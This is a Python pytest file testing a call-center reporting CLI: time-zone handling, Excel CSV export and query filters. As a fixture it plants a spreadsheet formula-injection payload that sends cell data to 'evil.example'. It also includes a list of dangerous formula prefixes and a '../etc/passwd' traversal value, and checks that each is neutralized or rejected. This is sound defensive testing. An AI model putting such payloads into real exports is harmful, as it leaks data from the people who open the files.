"""``ccagent report``: times and periods in a zone, CSV for Excel, filters (issue 13 item 8, R-REP-3).

Every test runs on SQLite and PostgreSQL (``db_url``): the period bounds are instants compared
in SQL, the zone only changes what a date means and how a time is printed.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import Engine

from ccagent.app.reports import (
    formula_safe,
    local_zone,
    parse_time_bound,
    parse_zone,
    query_calls,
    query_legs,
    render,
    report,
)
from ccagent.cli import main
from ccagent.core.legs.model import Direction, Disposition
from ccagent.storage.repositories import CallStore
from tests.statements import statements

TRACES = Path(__file__).resolve().parents[1] / "traces" / "asterisk"
KYIV = ZoneInfo("Europe/Kyiv")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Нажмите")'

# 2024-05-01T22:30Z is 2024-05-02 01:30 in Kyiv (summer, +03:00): the UTC day and the office day differ
LATE_EVENING = datetime(2024, 5, 1, 22, 30, tzinfo=UTC).timestamp()
# 2024-01-15T10:00Z is 12:00 in Kyiv (winter, +02:00): the offset follows the date, not today's
WINTER = datetime(2024, 1, 15, 10, 0, tzinfo=UTC).timestamp()


@pytest.fixture
def floor(store: CallStore, build: Any) -> Engine:
    """Five calls: a transfer across queues and employees, a missed call late in the evening with
    a formula for a caller name, a dialer call of a project, an abandoned queue call in winter."""
    t0 = build.T0  # 2024-05-01T10:00Z = 13:00 in Kyiv
    calls = [
        build.record(
            "xfer",
            (
                build.leg("xfer", 0, started_at=t0, extension="101", employee="Іван Петренко", queue="sales"),
                build.leg(
                    "xfer",
                    1,
                    started_at=t0 + 40,
                    extension="102",
                    employee="Олена",
                    queue="support",
                    transfer_from_leg=0,
                    transfer_kind="blind",
                ),
            ),
        ),
        build.record(
            "evil",
            (
                build.leg(
                    "evil",
                    0,
                    started_at=LATE_EVENING,
                    answered=False,
                    extension="103",
                    employee="Олена",
                    caller="+380441234567",
                    caller_name=HYPERLINK,
                ),
            ),
        ),
        build.record(
            "dial",
            (
                build.leg(
                    "dial",
                    0,
                    started_at=t0 + 600,
                    direction=Direction.OUTBOUND,
                    extension="102",
                    employee="Олена",
                    queue="support",
                    project="spring-sale",
                    caller_name=None,
                ),
            ),
            project="spring-sale",
        ),
        build.record(
            "gone",
            (
                build.leg(
                    "gone",
                    0,
                    started_at=WINTER,
                    answered=False,
                    disposition=Disposition.ABANDONED,
                    extension=None,
                    queue="support",
                    caller_name="-Мария",
                ),
            ),
        ),
    ]
    store.save_calls(calls)
    return store.engine


# --- zones ----------


def test_times_are_shown_in_the_zone_with_its_offset_of_that_date(floor: Engine) -> None:
    data = json.loads(report(floor, "legs", "json", tz=KYIV))
    started = {(d["call_id"], d["leg_seq"]): d["started_at"] for d in data}
    assert started[("gone", 0)] == "2024-01-15T12:00:00+02:00"  # winter time
    assert started[("xfer", 0)] == "2024-05-01T13:00:00+03:00"  # summer time
    assert started[("evil", 0)] == "2024-05-02T01:30:00+03:00"  # the next day on the office clock
    rows = list(csv.DictReader(io.StringIO(report(floor, "calls", "csv", tz=KYIV))))
    assert rows[-1]["call_id"] == "evil" and rows[-1]["ended_at"] == "2024-05-02T01:30:35.500000+03:00"
    # the same instants in UTC, as before (the library's default)
    assert json.loads(report(floor, "legs", "json"))[-1]["started_at"] == "2024-05-01T22:30:00Z"


def test_table_shows_wall_clock_times_and_names_the_zone(floor: Engine) -> None:
    out = report(floor, "legs", "table", tz=KYIV)
    assert "2024-05-02 01:30:00" in out and "2024-05-01 22:30:00" not in out
    assert out.splitlines()[-1] == "(5 rows) times in Europe/Kyiv"


def test_a_date_is_midnight_in_the_zone_across_utc_midnight(floor: Engine) -> None:
    day_from = parse_time_bound("2024-05-02", "--from", KYIV)
    assert day_from == datetime(2024, 5, 1, 21, 0, tzinfo=UTC)
    day_to = parse_time_bound("2024-05-03", "--to", KYIV)
    # 22:30Z on May 1st belongs to May 2nd in Kyiv, and to May 1st in UTC
    assert [r["call_id"] for r in query_legs(floor, date_from=day_from, date_to=day_to)] == ["evil"]
    utc_day = (parse_time_bound("2024-05-01", "--from"), parse_time_bound("2024-05-02", "--to"))
    assert [r["call_id"] for r in query_calls(floor, date_from=utc_day[0], date_to=utc_day[1])] == [
        "xfer",
        "dial",
        "evil",
    ]
    kyiv_day = (parse_time_bound("2024-05-01", "", KYIV), parse_time_bound("2024-05-02", "", KYIV))
    assert [r["call_id"] for r in query_calls(floor, date_from=kyiv_day[0], date_to=kyiv_day[1])] == [
        "xfer",
        "dial",
    ]
    # an explicit offset wins over the zone
    assert parse_time_bound("2024-05-02T00:00:00Z", "--from", KYIV) == datetime(2024, 5, 2, tzinfo=UTC)


def test_R_REP_3_cli_tz_moves_times_and_the_period(
    db_url: str, floor: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = [
        "report",
        "legs",
        "--db",
        db_url,
        "--format",
        "json",
        "--from",
        "2024-05-02",
        "--to",
        "2024-05-03",
    ]
    assert main([*argv, "--tz", "Europe/Kyiv"]) == 0
    got = json.loads(capsys.readouterr().out)
    assert [(d["call_id"], d["started_at"]) for d in got] == [("evil", "2024-05-02T01:30:00+03:00")]
    assert main([*argv, "--tz", "UTC"]) == 0
    assert json.loads(capsys.readouterr().out) == []


def test_cli_default_zone_is_the_machines(
    db_url: str, floor: Engine, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TZ", "Asia/Tokyo")  # +09:00, no summer time
    assert main(["report", "calls", "--db", db_url, "--format", "json", "--from", "2024-05-02"]) == 0
    got = json.loads(capsys.readouterr().out)
    assert [(d["call_id"], d["started_at"]) for d in got] == [("evil", "2024-05-02T07:30:00+09:00")]


def test_an_unknown_zone_is_a_usage_error_naming_the_option(
    db_url: str, floor: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exc:
        main(["report", "legs", "--db", db_url, "--tz", "Europe/Kiev-on-Mars"])
    assert exc.value.code == 64
    err = capsys.readouterr().err
    assert "argument --tz: unknown time zone 'Europe/Kiev-on-Mars'" in err
    with pytest.raises(ValueError, match=r"^--tz: unknown time zone '\.\./etc/passwd'"):
        parse_zone("../etc/passwd")


def test_local_zone_follows_tz_then_etc_localtime(tmp_path: Path) -> None:
    assert local_zone({"TZ": "Europe/Kyiv"}) == KYIV
    assert local_zone({"TZ": ":Asia/Tokyo"}) == ZoneInfo("Asia/Tokyo")
    # /etc/localtime as Debian makes it: a link into the zoneinfo tree, named by the link
    tree = tmp_path / "usr" / "share" / "zoneinfo" / "Europe"
    tree.mkdir(parents=True)
    kyiv_file = tree / "Kyiv"
    kyiv_file.write_bytes(_tzif("Europe/Kyiv"))
    link = tmp_path / "localtime"
    link.symlink_to(kyiv_file)
    assert local_zone({}, localtime=link) == KYIV
    assert local_zone({"TZ": ""}, localtime=link) is UTC  # set but empty: UTC, as libc has it
    assert local_zone({"TZ": "Asia/Tokyo"}, localtime=link) == ZoneInfo("Asia/Tokyo")  # TZ first
    # a copied file (no name to go by): its rules, summer and winter
    copy = tmp_path / "copied"
    copy.write_bytes(_tzif("Europe/Kyiv"))
    zone = local_zone({}, localtime=copy)
    assert datetime(2024, 1, 15, 10, tzinfo=UTC).astimezone(zone).hour == 12
    assert datetime(2024, 7, 15, 10, tzinfo=UTC).astimezone(zone).hour == 13
    assert local_zone({}, localtime=tmp_path / "none") is UTC


def _tzif(name: str) -> bytes:
    from importlib import resources

    area, city = name.split("/")
    return resources.files("tzdata").joinpath("zoneinfo", area, city).read_bytes()


# --- Excel ----------


def test_excel_csv_has_bom_semicolons_and_neutralized_formulas(
    db_url: str, floor: Engine, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    assert main(["report", "legs", "--db", db_url, "--excel", "--tz", "Europe/Kyiv"]) == 0
    raw = capsysbinary.readouterr().out
    assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\xef\xbb\xbf") == 1
    text = raw.decode("utf-8-sig")
    assert text.endswith("\r\n")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    by_id = {(r["call_id"], r["leg_seq"]): r for r in rows}
    evil = by_id[("evil", "0")]
    assert evil["caller_name"] == "'" + HYPERLINK  # text, not a formula
    assert evil["caller"] == "'+380441234567"
    assert evil["employee"] == "Олена"  # Cyrillic intact
    assert by_id[("gone", "0")]["caller_name"] == "'-Мария"
    xfer = by_id[("xfer", "0")]
    assert xfer["employee"] == "Іван Петренко" and xfer["caller_name"] == "Иван Петров"
    # numbers and times stay numbers and times for Excel: decimal comma, no T, no offset, no quote
    assert xfer["ring_s"] == "5,25" and xfer["talk_s"] == "30,25" and xfer["leg_seq"] == "0"
    assert xfer["started_at"] == "2024-05-01 13:00:00"
    assert evil["started_at"] == "2024-05-02 01:30:00"
    assert xfer["answered"] == "true" and evil["transfer_from_leg"] == ""
    for row in rows:  # no cell a spreadsheet would evaluate
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_plain_csv_stays_exact(floor: Engine) -> None:
    out = report(floor, "legs", "csv")
    assert not out.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    evil = next(r for r in rows if r["call_id"] == "evil")
    assert evil["caller_name"] == HYPERLINK and evil["caller"] == "+380441234567"
    assert evil["ring_s"] == "35.5"


def test_formula_safe_cells() -> None:
    for dangerous in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\x00=1"):
        assert formula_safe(dangerous) == "'" + dangerous
    for harmless in ("Иван", "101", "", " =1", "'=1", "a=b"):
        assert formula_safe(harmless) == harmless


def test_excel_refuses_other_formats() -> None:
    with pytest.raises(ValueError, match="--excel"):
        render([{"a": 1}], "json", excel=True)


def test_excel_and_format_are_exclusive(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exc:
        main(["report", "legs", "--excel", "--format", "json"])
    assert exc.value.code == 64
    assert "not allowed with argument" in capsys.readouterr().err


# --- filters ----------


def _ids(rows: list[dict[str, Any]]) -> list[tuple[str, int] | str]:
    return [(r["call_id"], r["leg_seq"]) if "leg_seq" in r else r["call_id"] for r in rows]


def test_legs_filter_by_queue_employee_project_and_result(floor: Engine) -> None:
    assert _ids(query_legs(floor, queue="support")) == [("gone", 0), ("xfer", 1), ("dial", 0)]
    assert _ids(query_legs(floor, queue=["sales", "support"], disposition="answered")) == [
        ("xfer", 0),
        ("xfer", 1),
        ("dial", 0),
    ]
    assert _ids(query_legs(floor, employee="Олена")) == [("xfer", 1), ("dial", 0), ("evil", 0)]
    assert _ids(query_legs(floor, employee="Олена", extension="102", queue="support")) == [
        ("xfer", 1),
        ("dial", 0),
    ]
    assert _ids(query_legs(floor, project="spring-sale")) == [("dial", 0)]
    assert _ids(query_legs(floor, disposition=["missed", "abandoned"])) == [("gone", 0), ("evil", 0)]
    assert query_legs(floor, project="spring-sale", disposition="missed") == []


def test_calls_filter_any_leg_for_people_and_queues_the_call_for_project_and_result(floor: Engine) -> None:
    # the transferred call belongs to both employees and both queues it went through
    assert _ids(query_calls(floor, employee="Іван Петренко")) == ["xfer"]
    assert _ids(query_calls(floor, employee="Олена")) == ["xfer", "dial", "evil"]
    assert _ids(query_calls(floor, queue="sales")) == ["xfer"]
    assert _ids(query_calls(floor, queue="support")) == ["gone", "xfer", "dial"]
    assert _ids(query_calls(floor, project="spring-sale")) == ["dial"]
    assert _ids(query_calls(floor, disposition="abandoned")) == ["gone"]
    assert _ids(query_calls(floor, queue="support", disposition="answered", employee="Олена")) == [
        "xfer",
        "dial",
    ]


def test_a_filtered_report_is_one_statement_whatever_the_rows(floor: Engine) -> None:
    with statements(floor) as seen:
        rows = query_calls(
            floor,
            employee=["Олена", "Іван Петренко"],
            queue="support",
            extension="102",
            project="spring-sale",
        )
    assert _ids(rows) == ["dial"] and len(seen) == 1


def test_cli_filters_repeat_and_result_is_the_disposition(
    db_url: str, floor: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    base = ["report", "calls", "--db", db_url, "--format", "json", "--tz", "UTC"]
    assert main([*base, "--result", "missed", "--result", "abandoned"]) == 0
    assert [d["call_id"] for d in json.loads(capsys.readouterr().out)] == ["gone", "evil"]
    assert main([*base, "--employee", "Олена", "--queue", "support", "--project", "spring-sale"]) == 0
    assert [d["call_id"] for d in json.loads(capsys.readouterr().out)] == ["dial"]
    legs = ["report", "legs", "--db", db_url, "--format", "json", "--tz", "UTC"]
    assert main([*legs, "--extension", "101", "--extension", "103"]) == 0
    assert [d["call_id"] for d in json.loads(capsys.readouterr().out)] == ["xfer", "evil"]


# --- real captures ----------


@pytest.fixture
def captured(db_url: str, tmp_path: Path) -> str:
    """Four real Asterisk captures ingested with an employee mapping: a queue call (03), a queue
    abandon (04), a dialer call of project campaign-1 (08), Cyrillic caller names (23)."""
    config = tmp_path / "ccagent.yaml"
    config.write_text(
        'employees:\n  mapping:\n    "101": "Іван Петренко"\n    "102": "Олена Коваль"\n', encoding="utf-8"
    )
    for name in (
        "03-queue-ringall-answered",
        "04-queue-abandoned",
        "08-dialer-answered-queue",
        "23-cyrillic-caller-name",
    ):
        argv = ["ingest", "-c", str(config), "--pbx", "asterisk", "--db", db_url]
        assert main([*argv, "--project-variable", "LAB_PROJECT", str(TRACES / name / "ami.log")]) == 0
    return db_url


def _calls(argv: list[str], capsys: pytest.CaptureFixture[str]) -> list[dict[str, Any]]:
    assert main(argv) == 0
    return list(json.loads(capsys.readouterr().out))


def test_captures_filters_and_zone(captured: str, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()  # what ingest printed
    base = ["report", "calls", "--db", captured, "--format", "json"]
    q03, q04, d08, c23a, c23b = (
        "1795546346.4",
        "1795546358.8",
        "1795546427.25",
        "1795625039.0",
        "1795625040.2",
    )
    everything = _calls([*base, "--tz", "UTC"], capsys)
    assert [c["call_id"] for c in everything] == [q03, q04, d08, c23a, c23b]
    assert [c["call_id"] for c in _calls([*base, "--queue", "support"], capsys)] == [q03, q04, d08]
    assert [c["call_id"] for c in _calls([*base, "--project", "campaign-1"], capsys)] == [d08]
    assert [c["call_id"] for c in _calls([*base, "--result", "abandoned"], capsys)] == [q04]
    assert [c["call_id"] for c in _calls([*base, "--result", "missed"], capsys)] == [c23b]
    olena = _calls([*base, "--employee", "Олена Коваль"], capsys)
    assert [c["call_id"] for c in olena] == [q03, d08, c23b]
    assert [c["call_id"] for c in _calls([*base, "--extension", "101"], capsys)] == [c23a]
    # 2026-11-24T18:5xZ is already November 25th in Tokyo (+09:00); 16:43Z on the 25th is the 26th there
    tokyo = _calls([*base, "--tz", "Asia/Tokyo", "--from", "2026-11-25", "--to", "2026-11-26"], capsys)
    assert [c["call_id"] for c in tokyo] == [q03, q04, d08]
    assert tokyo[0]["started_at"].startswith("2026-11-25T03:52:") and tokyo[0]["started_at"].endswith(
        "+09:00"
    )
    utc = _calls([*base, "--tz", "UTC", "--from", "2026-11-25", "--to", "2026-11-26"], capsys)
    assert [c["call_id"] for c in utc] == [c23a, c23b]


def test_captures_excel_keeps_cyrillic_names(
    captured: str, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    assert (
        main(["report", "legs", "--db", captured, "--excel", "--tz", "Europe/Kyiv", "--extension", "102"])
        == 0
    )
    raw = capsysbinary.readouterr().out
    raw = raw[raw.index(b"\xef\xbb\xbf") :]  # after what ingest printed
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [(r["caller_name"], r["employee"], r["disposition"]) for r in rows][-1] == (
        "Мария Иванова",
        "Олена Коваль",
        "missed",
    )
    assert all(r["employee"] == "Олена Коваль" for r in rows) and len(rows) == 3
    assert rows[0]["started_at"].startswith("2026-11-24 20:52:")  # Kyiv is +02:00 in November
